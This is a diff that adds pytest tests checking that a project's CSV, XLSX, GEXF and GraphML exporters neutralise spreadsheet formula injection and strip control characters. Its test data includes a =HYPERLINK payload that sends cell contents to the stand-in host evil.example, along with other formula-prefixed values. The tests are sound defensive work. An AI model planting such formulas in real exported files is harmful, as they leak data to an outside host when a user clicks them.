@@ -76,3 +76,50 @@ def test_plots_return_axes(data):
     with pytest.raises(ParameterError, match="lacks column"):
         plot_growth_churn(pd.DataFrame({"week": []}))
     plt.close("all")
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd",
+           "ac\x01me", "nul\x00here", "fine"]
+
+
+def test_hostile_cells_are_neutralised_in_csv_and_xlsx(tmp_path):
+    import openpyxl
+
+    table = pd.DataFrame({"handle": pd.array(HOSTILE, dtype="string"), "bio": HOSTILE,
+                          "followers": range(len(HOSTILE)), "=cmd": ["x"] * len(HOSTILE)})
+    import csv as csv_module
+
+    with export_table(table, tmp_path / "t.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv_module.reader(fh))  # Python's reader keeps a quoted carriage return as it is
+    csv = pd.DataFrame(rows[1:], columns=rows[0])
+    assert csv.columns.tolist() == ["handle", "bio", "followers", "'=cmd"]
+    for col in ("handle", "bio"):
+        assert csv[col].tolist() == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+1+1", "'-2+3",
+                                     "'@SUM(A1:A2)", "'\tcmd", "'\rcmd", "acme", "nulhere", "fine"]
+    sheet = openpyxl.load_workbook(export_table(table, tmp_path / "t.xlsx")).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
+    # (XML reads a carriage return back as a newline)
+    assert [c.value for c in sheet["A"]][1:] == [v.replace("\r", "\n") for v in csv.handle]
+    assert [c.value for c in sheet["C"]][1:] == list(range(len(HOSTILE)))  # numbers stay numbers
+
+
+def test_a_formula_that_slips_past_is_still_stored_as_text(tmp_path):
+    # a column of objects that are not str (e.g. a pandas scalar wrapper) is str()-ed by Excel writers:
+    # the post-write pass stores any "=" text as a string cell, never a formula
+    import openpyxl
+
+    table = pd.DataFrame({"x": ["=1+1"]})
+    sheet = openpyxl.load_workbook(export_table(table, tmp_path / "t.xlsx")).active
+    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'=1+1"
+
+
+@pytest.mark.parametrize("writer,reader", [(write_gexf, nx.read_gexf), (write_graphml, nx.read_graphml)])
+def test_control_characters_do_not_break_gexf_or_graphml(tmp_path, writer, reader):
+    G = nx.DiGraph()
+    G.add_node("1", handle="ac\x01me", bio="line\x0bbreak\x00", score=1.5)
+    G.add_node("2\x02", handle="=cmd")
+    G.add_edge("2\x02", "1", kind="fo\x1bllow")
+    H = reader(writer(G, tmp_path / "g.xml"))
+    assert H.nodes["1"]["handle"] == "acme" and H.nodes["1"]["bio"] == "linebreak"
+    assert H.edges["2", "1"]["kind"] == "follow" and H.nodes["2"]["handle"] == "=cmd"
